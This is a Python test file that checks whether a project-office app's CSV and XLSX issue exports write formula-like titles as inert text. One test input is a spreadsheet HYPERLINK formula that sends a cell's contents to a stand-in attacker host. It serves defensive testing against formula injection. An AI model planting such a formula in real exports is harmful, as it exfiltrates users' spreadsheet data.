"""Exported cells never run as formulas: CSV and XLSX neutralise them the same way."""

from __future__ import annotations

import csv
import io

from openpyxl import load_workbook

from projectoffice.controls.registers import ISSUES
from projectoffice.registers import actions as register_actions
from tests.conftest import Api, Office

LINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


def test_xlsx_and_csv_exports_write_formulas_as_text(office: Office) -> None:
    for title in (LINK, "+1+2", "@SUM(A1)", "-2+3"):
        register_actions.create_item(actor=office.pm, spec=ISSUES, project=office.project,
                                     data={"title": title})
    pm = Api(office.pm)
    book = load_workbook(io.BytesIO(pm.get("/projects/MTX/issues/export?format=xlsx").content))
    sheet = book.worksheets[0]
    cells = [c for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"], "a cell is a live formula"
    values = {c.value for c in cells}
    assert "'" + LINK in values and "'+1+2" in values and "'@SUM(A1)" in values

    text = pm.get("/projects/MTX/issues/export?format=csv").content.decode("utf-8-sig")
    titles = {row[1] for row in csv.reader(io.StringIO(text))} | \
        {v for row in csv.reader(io.StringIO(text)) for v in row}
    assert "'" + LINK in titles and LINK not in titles
